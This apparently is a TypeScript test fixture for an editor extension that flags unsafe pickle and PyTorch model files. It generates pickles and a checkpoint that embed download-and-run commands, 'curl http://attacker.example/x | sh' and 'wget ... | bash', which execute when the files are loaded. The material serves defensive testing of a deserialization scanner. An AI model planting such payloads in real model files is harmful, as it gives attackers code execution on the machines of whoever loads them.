// The workspace the real-editor tests open: a malicious pickle, a malicious PyTorch checkpoint,
// a benign pickle, an ambiguous `.bin`, and a script with an unsafe torch.load.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { benignPickle, maliciousPickle } from '../lsp/helpers/pickles';
import { buildZip, torchCheckpoint } from '../fixtures/zip/writer';
import { osSystemPickle } from '../fixtures/zip/pickles';

export const FIXTURE_FILES = {
  evil: 'models/evil.pkl',
  checkpoint: 'models/checkpoint.pt',
  good: 'models/good.pkl',
  ambiguous: 'models/weights.bin',
  script: 'train.py',
} as const;

export const EVIL_COMMAND = 'curl http://attacker.example/x | sh';
export const SCRIPT_TEXT = 'import torch\n\nmodel = torch.load("models/good.pkl")\n';
export const FIXED_LINE = 'model = torch.load("models/good.pkl", weights_only=True)';

export function writeWorkspaceFixture(dir: string): string {
  const storage = new Uint8Array(64).map((_, i) => i);
  const files: Record<string, Uint8Array | string> = {
    [FIXTURE_FILES.evil]: maliciousPickle(EVIL_COMMAND),
    [FIXTURE_FILES.checkpoint]: buildZip(torchCheckpoint('checkpoint', osSystemPickle('wget -q http://attacker.example/p -O- | bash'), [storage])).bytes,
    [FIXTURE_FILES.good]: benignPickle(),
    [FIXTURE_FILES.ambiguous]: maliciousPickle('id'),
    [FIXTURE_FILES.script]: SCRIPT_TEXT,
  };
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}
